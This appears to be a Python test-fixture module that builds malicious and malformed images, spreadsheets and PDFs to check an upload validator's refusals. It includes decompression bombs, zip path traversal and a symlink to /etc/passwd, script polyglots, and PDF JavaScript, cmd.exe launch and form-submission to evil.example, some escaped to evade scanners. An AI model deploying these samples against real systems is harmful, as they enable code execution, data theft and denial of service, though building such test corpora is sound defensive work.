"""R44: files that are not what they say, or far more than they should be. Each builder answers the bytes of one file."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image

GPS_EXIF = Image.Exif()
GPS_EXIF[0x010F] = "Kamera Rahasia"
GPS_EXIF[0x0112] = 6
GPS_EXIF.get_ifd(0x8825).update({1: "S", 2: (2.0, 59.0, 0.0), 3: "E", 4: (104.0, 45.0, 0.0)})


def picture(kind: str = "JPEG", size: tuple[int, int] = (40, 30), mode: str = "RGB", **options: object) -> bytes:
    """A real picture with some content."""
    out = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert(mode).save(out, kind, **options)
    return out.getvalue()


def png_claiming(width: int, height: int, pixels: bytes = b"") -> bytes:
    """A PNG whose head states any size, whatever follows."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(pixels)) + chunk(b"IEND", b"")


def png_with_text_bomb() -> bytes:
    """A picture with a comment that unpacks to 100 MB."""
    packed = b"Comment\x00\x00" + zlib.compress(b"\0" * 100_000_000, 9)
    chunk = struct.pack(">I", len(packed)) + b"zTXt" + packed + struct.pack(">I", zlib.crc32(b"zTXt" + packed))
    whole = picture("PNG")
    return whole[:33] + chunk + whole[33:]


def exif_that_leads_nowhere() -> bytes:
    """Says "turn me", and that the place is written five bytes before the start of the file."""
    entries = struct.pack(">HHI4s", 0x0112, 3, 1, b"\0\6\0\0") + struct.pack(">HHIi", 0x8825, 9, 1, -5)
    return picture(exif=b"Exif\0\0MM\0*" + struct.pack(">IH", 8, 2) + entries + b"\0\0\0\0")


SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
GIF_JS = b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)//"

#: Refused by ``accept_image``: name -> (builder, code of the refusal).
IMAGES_REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "empty": (lambda: b"", "empty_file"),
    "one byte": (lambda: b"\xff", "not_an_image"),
    "text": (lambda: b"halo", "not_an_image"),
    "html as jpg": (lambda: HTML, "not_an_image"),
    "svg": (lambda: SVG, "not_an_image"),
    "svg with BOM": (lambda: b"\xef\xbb\xbf" + SVG, "not_an_image"),
    "gif": (lambda: picture("GIF"), "not_an_image"),
    "gif that is a script": (lambda: GIF_JS, "not_an_image"),
    "bmp": (lambda: picture("BMP"), "not_an_image"),
    "tiff": (lambda: picture("TIFF"), "not_an_image"),
    "ico": (lambda: picture("ICO", (32, 32)), "not_an_image"),
    "pdf as jpg": (lambda: b"%PDF-1.7\n%%EOF", "not_an_image"),
    "postscript": (lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n", "not_an_image"),
    "zip as png": (lambda: b"PK\x03\x04" + b"\0" * 100, "not_an_image"),
    "program": (lambda: b"\x7fELF" + b"\0" * 100, "not_an_image"),
    "jpeg magic only": (lambda: b"\xff\xd8\xff\xe0", "not_an_image"),
    "png magic only": (lambda: b"\x89PNG\r\n\x1a\n", "not_an_image"),
    "webp magic only": (lambda: b"RIFF\x00\x00\x00\x00WEBP", "not_an_image"),
    "over 8 MB": (lambda: picture() + b"\0" * (8 * 1024 * 1024), "file_too_large"),
    "bomb of 50,000 x 50,000": (lambda: png_claiming(50_000, 50_000), "too_many_pixels"),
    "bomb of 2^31 x 2^31": (lambda: png_claiming(2**31 - 1, 2**31 - 1), "too_many_pixels"),
    "bomb that warns only": (lambda: png_claiming(10_000, 10_000), "too_many_pixels"),
    "just over 24 megapixels": (lambda: png_claiming(6000, 4001), "too_many_pixels"),
    "webp over 9 megapixels": (lambda: picture("WEBP", (3001, 3000)), "too_many_pixels"),
    "line of 1 x 65,500": (lambda: picture("JPEG", (1, 65_500)), "too_many_pixels"),
    "line of 65,500 x 1": (lambda: png_claiming(65_500, 1), "too_many_pixels"),
    "no pixels": (lambda: png_claiming(0, 10), "not_an_image"),
    "text bomb": (png_with_text_bomb, "not_an_image"),
    "head without pixels": (lambda: png_claiming(100, 100), "damaged_image"),
    "truncated jpeg": (lambda: picture("JPEG", (400, 300))[:-400], "damaged_image"),
    "truncated png": (lambda: picture("PNG", (400, 300))[:300], "damaged_image"),
    "truncated webp": (lambda: picture("WEBP", (400, 300))[:200], "not_an_image"),
    "overwritten png": (lambda: picture("PNG", (400, 300)).replace(b"IDAT", b"IDAT\0\0\0\0", 1), "damaged_image"),
}

#: Taken in and written anew: name -> builder.
IMAGES_CLEANED: dict[str, Callable[[], bytes]] = {
    "jpeg": picture,
    "jpeg in gray": lambda: picture(mode="L"),
    "jpeg in print colors": lambda: picture(mode="CMYK"),
    "progressive jpeg": lambda: picture(progressive=True),
    "jpeg with place and camera": lambda: picture(exif=GPS_EXIF),
    "jpeg with comment": lambda: picture(comment=b"rahasia"),
    "jpeg with broken exif": lambda: picture(exif=b"Exif\x00\x00MM\x00*\xff\xff\xff\xff\xff\xff"),
    "jpeg with exif that leads nowhere": exif_that_leads_nowhere,
    "jpeg with html behind": lambda: picture() + HTML,
    "jpeg with zip behind": lambda: picture() + b"PK\x03\x04rahasia",
    "png": lambda: picture("PNG"),
    "png with transparency": lambda: picture("PNG", mode="RGBA"),
    "png with palette": lambda: picture("PNG", mode="P"),
    "png with see-through palette": lambda: picture("PNG", mode="P", transparency=0),
    "png in gray with transparency": lambda: picture("PNG", mode="LA"),
    "png in 16 bits": lambda: picture("PNG", mode="I;16"),
    "png in black and white": lambda: picture("PNG", mode="1"),
    "png with place and camera": lambda: picture("PNG", exif=GPS_EXIF),
    "png with script behind": lambda: picture("PNG") + b"<script>alert(1)</script>",
    "webp": lambda: picture("WEBP"),
    "webp with transparency": lambda: picture("WEBP", mode="RGBA"),
    "webp with place and camera": lambda: picture("WEBP", exif=GPS_EXIF),
    "moving webp": lambda: picture("WEBP", save_all=True, append_images=[Image.new("RGB", (40, 30), "red")]),
    "moving png": lambda: picture("PNG", save_all=True, append_images=[Image.new("RGB", (40, 30), "red")]),
    "phone picture with a second one behind": lambda: picture("MPO", save_all=True, append_images=[Image.new("RGB", (20, 15))]),
    "large jpeg": lambda: picture("JPEG", (5000, 4000)),
    "exactly 24 megapixels": lambda: picture("PNG", (6000, 4000), mode="1"),
}


#: Does not get smaller by packing, so it stands in an archive as it is.
NOISE = random.Random(3).randbytes(2000)


def workbook(**members: bytes) -> bytes:
    """An archive with the least that a workbook has, and ``members`` besides."""
    return archive({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>", **members})


def archive(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as book:
        for name, content in members.items():
            book.writestr(name, content)
    return out.getvalue()


def with_link() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as book:
        book.writestr("xl/workbook.xml", b"<workbook/>")
        link = zipfile.ZipInfo("xl/media/a")
        link.external_attr = 0o120777 << 16
        book.writestr(link, "/etc/passwd")
    return out.getvalue()


def with_false_size() -> bytes:
    """A member that states one byte and holds 150 MB."""
    whole = bytearray(workbook(**{"xl/big.xml": b"<a>" + b" " * 150_000_000}))
    for marker, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        at = -1
        while (at := whole.find(marker, at + 1)) >= 0:
            if b"xl/big.xml" in whole[at : at + 64]:
                whole[at + offset : at + offset + 4] = struct.pack("<I", 1)
    return bytes(whole)


def encrypted() -> bytes:
    whole = bytearray(workbook())
    for marker, offset in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        at = -1
        while (at := whole.find(marker, at + 1)) >= 0:
            whole[at + offset] |= 1
    return bytes(whole)


BILLION_LAUGHS = b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]><worksheet>&lol2;</worksheet>'

#: Refused by ``check_sheet``: name -> (builder, code of the refusal).
SHEETS_REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "empty": (lambda: b"", "empty_file"),
    "bomb of 100 MB in one member": (lambda: workbook(**{"xl/worksheets/sheet1.xml": b"\0" * 100_000_000}), "unsafe_workbook"),
    "bomb spread over members": (
        lambda: workbook(**{f"xl/a{number}.bin": bytes(range(256)) * 4000 + b"\0" * 30_000_000 for number in range(7)}),
        "unsafe_workbook",
    ),
    "false size": (with_false_size, "damaged_file"),
    "10,000 members": (lambda: workbook(**{f"xl/{number}.xml": b"" for number in range(10_000)}), "unsafe_workbook"),
    "archive in the archive": (lambda: workbook(**{"xl/embeddings/inner.xlsx": workbook()}), "unsafe_workbook"),
    "zip in the archive": (lambda: workbook(**{"xl/inner.zip": archive({"a": b"b"})}), "unsafe_workbook"),
    "leads up": (lambda: workbook(**{"../../etc/cron.d/x": b"x"}), "unsafe_workbook"),
    "leads up the other way": (lambda: workbook(**{"xl\\..\\..\\x": b"x"}), "unsafe_workbook"),
    "leads to the root": (lambda: workbook(**{"/etc/x": b"x"}), "unsafe_workbook"),
    "leads to a drive": (lambda: workbook(**{"C:/x": b"x"}), "unsafe_workbook"),
    "link": (with_link, "unsafe_workbook"),
    "macro": (lambda: workbook(**{"xl/vbaProject.bin": b"x"}), "unsafe_workbook"),
    "macro in capitals": (lambda: workbook(**{"XL/VBAPROJECT.BIN": b"x"}), "unsafe_workbook"),
    "old macro sheet": (lambda: workbook(**{"xl/macrosheets/sheet1.xml": b"<a/>"}), "unsafe_workbook"),
    "control": (lambda: workbook(**{"xl/activeX/activeX1.bin": b"x"}), "unsafe_workbook"),
    "outside data": (lambda: workbook(**{"xl/externalLinks/externalLink1.xml": b"<a/>"}), "unsafe_workbook"),
    "document type": (lambda: workbook(**{"xl/worksheets/sheet1.xml": BILLION_LAUGHS}), "unsafe_workbook"),
    "text document": (lambda: archive({"word/document.xml": b"<a/>"}), "not_a_sheet"),
    "damaged": (lambda: workbook()[:-30], "damaged_file"),
    "damaged inside": (lambda: workbook(**{"xl/a.xml": NOISE}).replace(NOISE[60:90], bytes(30), 1), "damaged_file"),
    "locked": (encrypted, "damaged_file"),
    "old workbook": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "not_a_sheet"),
    "pdf as csv": (lambda: b"%PDF-1.7\n", "not_a_sheet"),
    "png as csv": (lambda: picture("PNG"), "not_a_sheet"),
    "jpeg as csv": (lambda: picture(), "not_a_sheet"),
    "html as csv": (lambda: b"\n  " + HTML, "not_a_sheet"),
    "svg as csv": (lambda: SVG, "not_a_sheet"),
    "program as csv": (lambda: b"MZ\x90\x00", "not_a_sheet"),
}


def pdf(body: bytes, trailer: bytes = b"") -> bytes:
    """The least that looks like a PDF, with ``body`` among its objects."""
    return b"%PDF-1.7\n1 0 obj <</Type /Catalog>> endobj\n" + body + b"\ntrailer <</Root 1 0 R " + trailer + b">>\n%%EOF\n"


def stream(content: bytes, dictionary: bytes = b"", number: int = 9, line: bytes = b"\n") -> bytes:
    head = b"%d 0 obj <<%s /Length %d>> stream" % (number, dictionary, len(content))
    return head + line + content + b"\nendstream endobj"


SCRIPT = b"5 0 <</S /JavaScript /JS (app.alert(1))>>"
OBJECTS = b"/Type /ObjStm /N 1 /First 4 "
DEFLATED = b"/Filter /FlateDecode"


#: Refused by ``accept_pdf`` as active: name -> bytes.
PDFS_ACTIVE: dict[str, bytes] = {
    "script": pdf(b"2 0 obj " + SCRIPT + b" endobj"),
    "script at the start": pdf(b"", b"/OpenAction <</S /JavaScript /JS (x)>>"),
    "script in the name tree": pdf(b"2 0 obj <</Names <</JavaScript 3 0 R>>>> endobj"),
    "script by escaped name": pdf(b"2 0 obj <</S /J#61va#53cript /J#53 (x)>> endobj"),
    "script with every letter escaped": pdf(b"2 0 obj <</S /" + b"".join(b"#%02x" % letter for letter in b"JavaScript") + b">> endobj"),
    "script name without blank": pdf(b"2 0 obj<</S/JavaScript/JS(x)>>endobj"),
    "key of a script alone": pdf(b"2 0 obj <</JS 3 0 R>> endobj"),
    "program start": pdf(b"2 0 obj <</S /Launch /F (cmd.exe)>> endobj"),
    "actions on opening a page": pdf(b"2 0 obj <</AA <</O 3 0 R>>>> endobj"),
    "sends a form": pdf(b"2 0 obj <</S /SubmitForm /F (http://evil.example)>> endobj"),
    "reads data in": pdf(b"2 0 obj <</S /ImportData>> endobj"),
    "leads into another file": pdf(b"2 0 obj <</S /GoToR /F (\\\\\\\\evil.example\\\\a)>> endobj"),
    "attached file": pdf(b"2 0 obj <</Names <</EmbeddedFiles 3 0 R>>>> endobj"),
    "film with script": pdf(b"2 0 obj <</S /Rendition /JS (x)>> endobj"),
    "rich media": pdf(b"2 0 obj <</Subtype /RichMedia>> endobj"),
    "form in XML": pdf(b"2 0 obj <</XFA 3 0 R>> endobj"),
    "encrypted": pdf(b"", b"/Encrypt 7 0 R"),
    "script among packed objects": pdf(stream(zlib.compress(SCRIPT), OBJECTS + DEFLATED)),
    "script among packed objects, line feed and return": pdf(stream(zlib.compress(SCRIPT), OBJECTS + DEFLATED, line=b"\r\n")),
    "script among packed objects, return only": pdf(stream(zlib.compress(SCRIPT), OBJECTS + DEFLATED, line=b"\r")),
    "escaped script among packed objects": pdf(stream(zlib.compress(SCRIPT.replace(b"/JavaScript", b"/J#61vaScript")), OBJECTS + DEFLATED)),
    "only a key among packed objects": pdf(stream(zlib.compress(b"5 0 <</JS 3 0 R>>"), OBJECTS + DEFLATED)),
    "script before a damage": pdf(stream(zlib.compress(SCRIPT)[:-2] + b"xx", OBJECTS + DEFLATED)),
    "script before a damage of no object stream": pdf(stream(zlib.compress(SCRIPT + b" " * 9000)[:-1] + b"x", DEFLATED)),
    "script in plain objects": pdf(stream(SCRIPT, OBJECTS)),
    "script in a stream that says nothing": pdf(stream(zlib.compress(SCRIPT))),
    "objects packed twice": pdf(stream(zlib.compress(SCRIPT).hex().encode(), OBJECTS + b"/Filter [/ASCIIHexDecode /FlateDecode]")),
    "objects in hexadecimal": pdf(stream(SCRIPT.hex().encode() + b">", OBJECTS + b"/Filter /ASCIIHexDecode")),
    "objects in hexadecimal without type": pdf(stream(SCRIPT.hex().encode() + b">", b"/N 1 /First 4 /Filter /ASCIIHexDecode")),
    "objects by differences": pdf(stream(zlib.compress(b"\x02" + SCRIPT), OBJECTS + DEFLATED + b" /DecodeParms <</Predictor 12>>")),
    "objects with escaped type": pdf(stream(SCRIPT.hex().encode(), b"/Type /Obj#53tm /Filter /ASCIIHexDecode")),
    "objects behind a false head": pdf(stream(SCRIPT.hex().encode(), b"/Type /ObjStm /Filter /ASCIIHexDecode /X (9 0 obj)")),
    "objects that do not inflate": pdf(stream(b"not deflated at all", OBJECTS + DEFLATED)),
    "stream without an end": b"%PDF-1.7\n9 0 obj <<" + DEFLATED + b">> stream\n" + zlib.compress(SCRIPT) + b"\n%%EOF",
    "script between two streams": pdf(stream(b"a", number=2) + b" 3 0 obj " + SCRIPT + b" endobj " + stream(b"b", number=4)),
    "bomb": pdf(stream(zlib.compress(b"\0" * 70_000_000, 9), DEFLATED)),
}

#: Taken as they are: name -> bytes.
PDFS_HARMLESS: dict[str, bytes] = {
    "plain": pdf(b"2 0 obj <</Type /Page /MediaBox [0 0 595 842]>> endobj"),
    "opens at page one": pdf(b"", b"/OpenAction [3 0 R /XYZ null null 0]"),
    "opens at a named place": pdf(b"3 0 obj <</S /GoTo /D [2 0 R /Fit]>> endobj", b"/OpenAction 3 0 R"),
    "link to a page on the web": pdf(b"2 0 obj <</S /URI /URI (https://contoh.id/)>> endobj"),
    "words about scripts": pdf(b"2 0 obj (JavaScript and Launch, /#zz) endobj"),
    "picture that holds /JS by chance": pdf(stream(b"\x00/JS \x01/AA ", b"/Subtype /Image")),
    "picture that holds the word stream": pdf(stream(b"stream\n\x00 stream\r\n", b"/Subtype /Image")),
    "packed objects": pdf(stream(zlib.compress(b"5 0 <</Type /Page>>"), OBJECTS + DEFLATED)),
    "packed cross references": pdf(stream(zlib.compress(b"\x02\x01\x00"), b"/Type /XRef " + DEFLATED + b" /DecodeParms <</Predictor 12>>")),
    "scan": pdf(stream(picture(), b"/Subtype /Image /Filter /DCTDecode")),
}
